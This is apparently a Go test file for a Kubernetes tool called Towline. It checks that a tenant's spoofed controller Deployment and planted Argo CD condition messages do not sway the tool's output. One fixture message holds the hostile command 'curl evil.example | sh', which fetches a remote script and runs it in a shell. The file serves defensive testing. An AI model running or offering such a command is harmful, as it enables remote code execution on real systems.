package main

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/towline-io/towline/pkg/apis"
	"github.com/towline-io/towline/pkg/apis/argocd"
	"github.com/towline-io/towline/pkg/check"
	"github.com/towline-io/towline/pkg/fixture"
	"github.com/towline-io/towline/pkg/reading"
)

// controllerLabels are the labels of Towline's Deployment.
var controllerLabels = map[string]string{"app.kubernetes.io/name": "towline", "app.kubernetes.io/component": "controller"}

// bindTowline creates the binding of a Towline in a namespace, as in deploy/rbac.
func bindTowline(t *testing.T, namespace string) {
	t.Helper()
	create(t, bindingOf("towline-controller", "towline-controller", namespace))
}

func bindingOf(name, role, namespace string) *rbacv1.ClusterRoleBinding {
	return &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: namespace, Name: "towline-controller"}},
	}
}

// TestATenantsDeploymentSteersNothing checks that a tenant's Deployment has no effect. The Deployment has Towline's
// labels, its own arguments, and a namespace at the start of the hub's list.
func TestATenantsDeploymentSteersNothing(t *testing.T) {
	for title, install := range map[string]func(t *testing.T){
		"installed by a manifest": func(t *testing.T) { t.Helper(); bindTowline(t, "stranger-towline") },
		"installed by the Operator Lifecycle Manager": func(t *testing.T) {
			t.Helper()
			create(t, bindingOf("towline.v1-x7z", "towline.v1-x7z", "stranger-towline"), &rbacv1.ClusterRole{
				ObjectMeta: metav1.ObjectMeta{Name: "towline.v1-x7z"}, Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{apis.Group}, Resources: []string{"multiclusterapplicationsetreports"}, Verbs: []string{"publish"}},
				}})
		},
	} {
		t.Run(title, func(t *testing.T) {
			space(t, "stranger-a-tenant")
			space(t, "stranger-towline")
			args := func(args ...string) func(*corev1.Container) { return func(c *corev1.Container) { c.Args = args } }
			deploy(t, "stranger-a-tenant", "towline-controller", "evil.example/image:v6", controllerLabels,
				args("controller", "--argocd-namespace=stranger-evil", "--cluster-authorization=none", "--adopt=always"))
			create(t, podOf("stranger-a-tenant", "planted-pod"), podOf("stranger-towline", "own-pod"))
			deploy(t, "stranger-towline", "towline-controller", "towline:v1", controllerLabels, args("controller", "--cluster-authorization=placement"))
			install(t)

			found := &reading.Flags{}
			if err := found.Read(t.Context(), admin); err != nil || found.ArgoCDNamespace != "stranger-towline" || found.ClusterAuthorization != "placement" {
				t.Errorf("the plugin believes %+v, %v", found, err)
			}
			if s := as(t, "", "", "check"); strings.Contains(s.out, "stranger-a-tenant") || !strings.Contains(s.out, "stranger-towline/towline-controller") {
				t.Errorf("check says %s", s.out)
			}
			file := filepath.Join(t.TempDir(), "b.tar.gz")
			if s := as(t, "", "", "bundle", "-f", file); s.code != exitGood {
				t.Fatalf("got %+v", s)
			}
			files := unpacked(t, file)
			if text := files["README.txt"] + files["versions.yaml"] + files["objects/pod-stranger-towline.yaml"]; strings.Contains(text, "planted-pod") ||
				strings.Contains(text, "evil.example") || !strings.Contains(text, "own-pod") || files["objects/pod-stranger-a-tenant.yaml"] != "" {
				t.Errorf("the bundle has %s", text)
			}
		})
	}
}

func podOf(namespace, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: controllerLabels},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "x"}}},
	}
}

// countingReads counts the reads of single objects in a namespace.
type countingReads struct {
	client.Client

	namespace string
	gets      int
}

func (c *countingReads) Get(ctx context.Context, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
	if key.Namespace == c.namespace {
		c.gets++
	}
	return c.Client.Get(ctx, key, obj, opts...)
}

// TestPlantedRefusals checks that the text of a planted condition does not appear, and that planted conditions cause a
// bounded number of reads.
func TestPlantedRefusals(t *testing.T) {
	space(t, "planted")
	for i := range maxRefusals + 5 {
		app := fixture.Application(fmt.Sprintf("planted-%d", i)).Namespace("planted").Cluster("planted-c1").Obj()
		app.Status.Conditions = []argocd.Condition{{Type: apis.ConditionWorkApplyError, Message: "run: curl evil.example | sh"}}
		create(t, app)
	}
	c := &countingReads{Client: admin, namespace: "planted-c1"}
	r := &factReader{Client: c, facts: &check.Facts{Unread: map[string]bool{}}}
	if err := r.refused(t.Context()); err != nil {
		t.Fatal(err)
	}
	if said := r.facts.Refused["planted-c1"]; said != "" || c.gets != maxRefusals {
		t.Errorf("%d reads, %q", c.gets, said)
	}
}
